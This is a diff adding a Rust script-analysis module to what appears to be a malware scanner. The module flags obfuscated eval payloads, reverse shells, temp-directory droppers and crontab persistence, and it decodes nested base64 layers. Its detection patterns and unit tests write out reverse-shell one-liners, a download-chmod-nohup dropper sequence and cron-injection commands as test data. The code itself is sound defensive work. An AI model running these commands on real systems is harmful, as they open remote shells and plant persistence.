@@ -0,0 +1,386 @@
+use std::path::Path;
+
+use base64::engine::general_purpose::STANDARD;
+use base64::Engine as _;
+use once_cell::sync::Lazy;
+use regex::bytes::Regex;
+
+use super::heuristics::HeuristicFinding;
+use super::ThreatCategory;
+
+// ==================== BETİK ANALİZİ ====================
+
+const SCRIPT_EXTENSIONS: &[&str] = &["sh", "bash", "zsh", "ksh", "py", "pl", "pm", "rb", "php"];
+const SCRIPT_INTERPRETERS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh", "python", "perl", "ruby", "php"];
+
+// Base64 layers are peeled at most this deep, and only while they keep decoding to text
+const MAX_DECODE_DEPTH: usize = 3;
+const MIN_ENCODED_LEN: usize = 40;
+const MAX_DECODED_LAYERS: usize = 64;
+
+static BASE64_LITERAL: Lazy<Regex> = Lazy::new(|| {
+    Regex::new(&format!(r"[A-Za-z0-9+/]{{{},}}={{0,2}}", MIN_ENCODED_LEN)).expect("valid regex")
+});
+
+static EVAL_ENCODED: Lazy<Regex> = Lazy::new(|| {
+    Regex::new(concat!(
+        r"(?i)(\beval\b|\bexec\b|\bassert\b|\bsystem\b|base64\s+(-d|--decode)\b[^\n]*\|\s*(ba|da|z)?sh\b)",
+        r#"[^\n]{0,80}?(["']?[A-Za-z0-9+/]{100,}={0,2}|(\\x[0-9a-fA-F]{2}){40,}|["'][0-9a-fA-F]{200,})"#,
+    ))
+    .expect("valid regex")
+});
+
+// eval "$(echo $X | base64 -d)", exec(base64.b64decode(...)), eval(base64_decode(...)) and the like
+static EVAL_DECODED: Lazy<Regex> = Lazy::new(|| {
+    Regex::new(concat!(
+        r#"(?i)\b(eval|exec|assert)\s*[(\s]\s*["']?"#,
+        r"(\$\(\s*(echo|printf|cat)\b[^\n]*\|\s*base64\s+(-d|--decode)",
+        r"|(base64\.b64decode|base64_decode|decode_base64|atob|zlib\.decompress|gzinflate)\s*\()",
+    ))
+    .expect("valid regex")
+});
+
+static ECHO_DECODE_SHELL: Lazy<Regex> = Lazy::new(|| {
+    Regex::new(r"(?i)(echo|printf)\s+[^\n|]{100,}\|\s*base64\s+(-d|--decode)[^\n|]*\|\s*(ba|da|z)?sh\b")
+        .expect("valid regex")
+});
+
+static PYTHON_EXEC_COMPILE: Lazy<Regex> =
+    Lazy::new(|| Regex::new(r"\bexec\s*\(\s*compile\s*\(").expect("valid regex"));
+
+static REVERSE_SHELL: Lazy<Regex> = Lazy::new(|| {
+    Regex::new(concat!(
+        r"(/dev/(tcp|udp)/[0-9A-Za-z.\-]+/[0-9]+",
+        r"|os\.dup2\s*\(\s*\w+\.fileno\(\)",
+        r#"|open\s*\(\s*STDIN\s*,\s*["']>&"#,
+        r"|\bnc(at)?\b[^\n]*\s-e\s+/bin/(ba)?sh)",
+    ))
+    .expect("valid regex")
+});
+
+static CHMOD_TEMP: Lazy<Regex> = Lazy::new(|| {
+    Regex::new(r"chmod\s+(\+x|[0-7]*[1357][0-7]*|[ugoa]*\+[rw]*x)\s+((/tmp|/var/tmp|/dev/shm)/[^\s;&|]+)")
+        .expect("valid regex")
+});
+
+static CRONTAB_INJECTION: Lazy<Regex> = Lazy::new(|| {
+    Regex::new(concat!(
+        r"(\|\s*crontab\s+-(\s|$)",
+        r"|>>?\s*/etc/crontab\b",
+        r"|>>?\s*/var/spool/cron/",
+        r"|>>?\s*/etc/cron\.(d|hourly|daily|weekly|monthly)/)",
+    ))
+    .expect("valid regex")
+});
+
+#[derive(Debug, Clone)]
+pub struct DecodedLayer {
+    // Offset of the outermost encoded literal in the file
+    pub offset: u64,
+    pub depth: usize,
+    pub data: Vec<u8>,
+}
+
+#[derive(Debug, Clone, Default)]
+pub struct ScriptAnalysis {
+    pub findings: Vec<HeuristicFinding>,
+    pub decoded: Vec<DecodedLayer>,
+}
+
+pub fn is_script(path: &Path, sample: &[u8]) -> bool {
+    let head = &sample[..sample.len().min(8192)];
+    if head.is_empty() || head.contains(&0) {
+        return false;
+    }
+
+    if let Some(line) = head.strip_prefix(b"#!") {
+        let line = line.split(|&b| b == b'\n').next().unwrap_or_default();
+        let line = String::from_utf8_lossy(line);
+        // "#!/usr/bin/env python3" and "#!/bin/bash -e" alike
+        return line.split_whitespace().any(|word| {
+            let program = word.rsplit('/').next().unwrap_or(word);
+            let program = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+            SCRIPT_INTERPRETERS.contains(&program)
+        });
+    }
+
+    path.extension()
+        .map(|ext| SCRIPT_EXTENSIONS.contains(&ext.to_string_lossy().to_lowercase().as_str()))
+        .unwrap_or(false)
+}
+
+pub fn analyze(path: &Path, sample: &[u8]) -> Option<ScriptAnalysis> {
+    if !is_script(path, sample) {
+        return None;
+    }
+
+    let mut analysis = ScriptAnalysis::default();
+    inspect(sample, 0, None, &mut analysis.findings);
+    peel(sample, None, 1, &mut analysis);
+
+    Some(analysis)
+}
+
+// Decodes base64 literals that turn out to be text, then inspects each layer like the script itself
+fn peel(data: &[u8], outer_offset: Option<u64>, depth: usize, analysis: &mut ScriptAnalysis) {
+    if depth > MAX_DECODE_DEPTH {
+        return;
+    }
+
+    for m in BASE64_LITERAL.find_iter(data) {
+        if analysis.decoded.len() >= MAX_DECODED_LAYERS {
+            return;
+        }
+        let Some(decoded) = decode_text(m.as_bytes()) else {
+            continue;
+        };
+
+        let offset = outer_offset.unwrap_or(m.start() as u64);
+        inspect(&decoded, offset, Some(depth), &mut analysis.findings);
+        peel(&decoded, Some(offset), depth + 1, analysis);
+        analysis.decoded.push(DecodedLayer {
+            offset,
+            depth,
+            data: decoded,
+        });
+    }
+}
+
+fn decode_text(encoded: &[u8]) -> Option<Vec<u8>> {
+    // Literals are often wrapped mid-padding; trim to a whole number of quads
+    let usable = encoded.len() - encoded.len() % 4;
+    let decoded = STANDARD.decode(&encoded[..usable]).ok()?;
+    let printable = decoded
+        .iter()
+        .filter(|&&b| b.is_ascii_graphic() || b.is_ascii_whitespace())
+        .count();
+    (printable * 100 >= decoded.len() * 95).then_some(decoded)
+}
+
+fn inspect(data: &[u8], base_offset: u64, layer: Option<usize>, findings: &mut Vec<HeuristicFinding>) {
+    let mut report = |name: &str, category: ThreatCategory, confidence: f32, offset: usize, what: String| {
+        let name = format!("Script.{}", name);
+        // One finding per indicator, whichever layer shows it first
+        if findings.iter().any(|f| f.name == name) {
+            return;
+        }
+        let (offset, description) = match layer {
+            Some(depth) => (base_offset, format!("{} (in base64 layer {})", what, depth)),
+            None => (offset as u64, what),
+        };
+        findings.push(HeuristicFinding {
+            name,
+            category,
+            // Anything that needed decoding to be seen was hidden on purpose
+            confidence: if layer.is_some() { (confidence + 0.1).min(1.0) } else { confidence },
+            offset,
+            description,
+        });
+    };
+    let excerpt = |bytes: &[u8]| {
+        let text = String::from_utf8_lossy(&bytes[..bytes.len().min(80)]).to_string();
+        if bytes.len() > 80 {
+            format!("{}...", text)
+        } else {
+            text
+        }
+    };
+
+    let eval_encoded = EVAL_ENCODED
+        .find(data)
+        .or_else(|| EVAL_DECODED.find(data))
+        .or_else(|| ECHO_DECODE_SHELL.find(data));
+    if let Some(m) = eval_encoded {
+        report(
+            "Obfuscated.EvalEncoded",
+            ThreatCategory::Trojan,
+            0.8,
+            m.start(),
+            format!("Evaluates an encoded payload: {}", excerpt(m.as_bytes())),
+        );
+    }
+
+    if let Some(m) = PYTHON_EXEC_COMPILE.find(data) {
+        report(
+            "Obfuscated.ExecCompile",
+            ThreatCategory::Trojan,
+            0.7,
+            m.start(),
+            "Executes dynamically compiled Python code".to_string(),
+        );
+    }
+
+    if let Some(m) = REVERSE_SHELL.find(data) {
+        report(
+            "ReverseShell",
+            ThreatCategory::Trojan,
+            0.9,
+            m.start(),
+            format!("Connects a shell to a remote host: {}", excerpt(m.as_bytes())),
+        );
+    }
+
+    for caps in CHMOD_TEMP.captures_iter(data) {
+        let (Some(whole), Some(target)) = (caps.get(0), caps.get(2)) else {
+            continue;
+        };
+        if executes_later(&data[whole.end()..], target.as_bytes()) {
+            report(
+                "Dropper.TempExecutable",
+                ThreatCategory::Trojan,
+                0.75,
+                whole.start(),
+                format!("Marks {} executable and runs it", String::from_utf8_lossy(target.as_bytes())),
+            );
+            break;
+        }
+    }
+
+    if let Some(m) = CRONTAB_INJECTION.find(data) {
+        report(
+            "Persistence.Crontab",
+            ThreatCategory::Trojan,
+            0.65,
+            m.start(),
+            format!("Writes a cron entry: {}", excerpt(m.as_bytes())),
+        );
+    }
+}
+
+// The dropped file counts as run when it appears as a command: at the start of a line,
+// after a separator, or behind nohup/sh/bash/exec
+fn executes_later(rest: &[u8], target: &[u8]) -> bool {
+    let mut position = 0;
+    while let Some(found) = memchr::memmem::find(&rest[position..], target) {
+        let start = position + found;
+        let before = String::from_utf8_lossy(&rest[start.saturating_sub(16)..start]).to_string();
+        let before = before.trim_end_matches([' ', '\t']);
+        if before.is_empty()
+            || before.ends_with(['\n', ';', '&', '|', '(', '`'])
+            || ["nohup", "sh", "bash", "exec", "setsid"]
+                .iter()
+                .any(|command| before.ends_with(command))
+        {
+            return true;
+        }
+        position = start + target.len();
+    }
+    false
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn names(script: &[u8]) -> Vec<String> {
+        analyze(Path::new("run.sh"), script)
+            .unwrap()
+            .findings
+            .into_iter()
+            .map(|f| f.name)
+            .collect()
+    }
+
+    fn wrap(layers: usize, payload: &str) -> String {
+        (0..layers).fold(payload.to_string(), |inner, _| STANDARD.encode(format!("echo {}\n", inner)))
+    }
+
+    #[test]
+    fn recognises_scripts_by_shebang_or_extension() {
+        assert!(is_script(Path::new("noext"), b"#!/usr/bin/env python3\nprint(1)\n"));
+        assert!(is_script(Path::new("noext"), b"#!/bin/bash -e\n"));
+        assert!(is_script(Path::new("tool.PY"), b"print(1)\n"));
+        assert!(!is_script(Path::new("noext"), b"#!/usr/bin/node\n"));
+        assert!(!is_script(Path::new("tool.sh"), b"#!/bin/sh\n\0\0"));
+        assert!(!is_script(Path::new("tool.sh"), b""));
+        assert!(!is_script(Path::new("notes.txt"), b"eval $(echo x | base64 -d)\n"));
+        assert!(analyze(Path::new("notes.txt"), b"nc -e /bin/sh 10.0.0.1 4444\n").is_none());
+    }
+
+    #[test]
+    fn ordinary_scripts_have_no_findings() {
+        let script = b"#!/bin/sh\nset -e\nchmod +x ./configure\n./configure --prefix=/usr\nmake && make install\n";
+        let analysis = analyze(Path::new("build.sh"), script).unwrap();
+        assert!(analysis.findings.is_empty());
+        assert!(analysis.decoded.is_empty());
+    }
+
+    #[test]
+    fn flags_evaluated_payloads() {
+        let long = "QUFB".repeat(30);
+        assert_eq!(names(format!("eval \"{}\"\n", long).as_bytes()), vec!["Script.Obfuscated.EvalEncoded"]);
+        assert_eq!(
+            names(b"eval \"$(echo $PAYLOAD | base64 -d)\"\n"),
+            vec!["Script.Obfuscated.EvalEncoded"]
+        );
+        assert_eq!(
+            names(b"exec(base64.b64decode(blob))\n"),
+            vec!["Script.Obfuscated.EvalEncoded"]
+        );
+        assert_eq!(names(b"exec(compile(src, 'x', 'exec'))\n"), vec!["Script.Obfuscated.ExecCompile"]);
+        // Decoding alone is not evaluation
+        assert!(names(b"echo $DATA | base64 -d > out.bin\n").is_empty());
+    }
+
+    #[test]
+    fn flags_reverse_shells_droppers_and_cron() {
+        assert_eq!(names(b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"), vec!["Script.ReverseShell"]);
+        assert_eq!(names(b"ncat 10.0.0.1 4444 -e /bin/bash\n"), vec!["Script.ReverseShell"]);
+        assert_eq!(
+            names(b"curl -o /tmp/.x http://h/x\nchmod +x /tmp/.x\nnohup /tmp/.x &\n"),
+            vec!["Script.Dropper.TempExecutable"]
+        );
+        assert_eq!(
+            names(b"(crontab -l; echo '* * * * * /tmp/x') | crontab -\n"),
+            vec!["Script.Persistence.Crontab"]
+        );
+        assert_eq!(names(b"echo '@reboot x' >> /etc/cron.d/job\n"), vec!["Script.Persistence.Crontab"]);
+    }
+
+    #[test]
+    fn dropper_needs_the_file_to_run() {
+        // Only mentioned as an argument afterwards
+        assert!(names(b"chmod 755 /tmp/tool\nrm -f /tmp/tool\n").is_empty());
+        assert!(names(b"chmod 644 /tmp/tool\n/tmp/tool\n").is_empty());
+        assert!(executes_later(b"; /tmp/a", b"/tmp/a"));
+        assert!(executes_later(b"\nsetsid /tmp/a", b"/tmp/a"));
+        assert!(!executes_later(b" cp /tmp/a /tmp/b", b"/tmp/a"));
+        assert!(!executes_later(b"", b"/tmp/a"));
+    }
+
+    #[test]
+    fn peels_base64_layers() {
+        let script = format!("#!/bin/sh\nP={}\n", wrap(2, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"));
+        let analysis = analyze(Path::new("x"), script.as_bytes()).unwrap();
+        let shell = analysis.findings.iter().find(|f| f.name == "Script.ReverseShell").unwrap();
+        assert_eq!(shell.offset, 12);
+        assert!(shell.description.contains("base64 layer 2"));
+        assert!((shell.confidence - 1.0).abs() < 1e-6);
+        assert_eq!(analysis.decoded.iter().map(|l| l.depth).max(), Some(2));
+        assert!(analysis.decoded.iter().all(|l| l.offset == 12));
+    }
+
+    #[test]
+    fn stops_at_depth_and_binary_layers() {
+        let deep = format!("#!/bin/sh\nP={}\n", wrap(MAX_DECODE_DEPTH + 1, "nc -e /bin/sh 10.0.0.1 1"));
+        let analysis = analyze(Path::new("x"), deep.as_bytes()).unwrap();
+        assert!(analysis.findings.is_empty());
+        assert_eq!(analysis.decoded.len(), MAX_DECODE_DEPTH);
+
+        let binary = STANDARD.encode((0..120u8).map(|b| b.wrapping_mul(37)).collect::<Vec<_>>());
+        let analysis = analyze(Path::new("x.sh"), format!("D={}\n", binary).as_bytes()).unwrap();
+        assert!(analysis.decoded.is_empty());
+
+        // Truncated padding still decodes, invalid alphabets do not
+        assert!(decode_text(&STANDARD.encode("echo hello world, this is plain text!!").as_bytes()[..50]).is_some());
+        assert!(decode_text(b"====").is_none());
+    }
+
+    #[test]
+    fn caps_the_number_of_decoded_layers() {
+        let literal = STANDARD.encode("echo this decodes to plain text for sure\n");
+        let script = format!("#!/bin/sh\n{}\n", vec![literal; MAX_DECODED_LAYERS + 10].join("\n"));
+        let analysis = analyze(Path::new("x"), script.as_bytes()).unwrap();
+        assert_eq!(analysis.decoded.len(), MAX_DECODED_LAYERS);
+    }
+}